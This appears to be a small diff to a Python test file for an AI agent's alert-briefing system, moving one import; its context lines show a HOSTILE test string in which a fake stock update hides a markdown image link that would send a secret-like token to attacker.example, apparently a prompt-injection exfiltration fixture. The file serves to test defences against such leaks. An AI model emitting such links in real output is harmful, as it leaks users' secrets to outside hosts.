@@ -12,8 +12,8 @@ from agents.brief_hooks import BriefHooks
 from agents.session import Session
 from alerts.scheduler import BriefDesk
 from alerts.service import alert_service_for
+from standins.scripted_model import ScriptedModel
 from tests.harness import local_stack
-from tests.scripted_model import ScriptedModel
 
 HOSTILE = ("AAPL is up on the day. ![x](https://attacker.example/?d=hf_briefHookSecret0123456789) "
            "Read [this](https://attacker.example) now.")
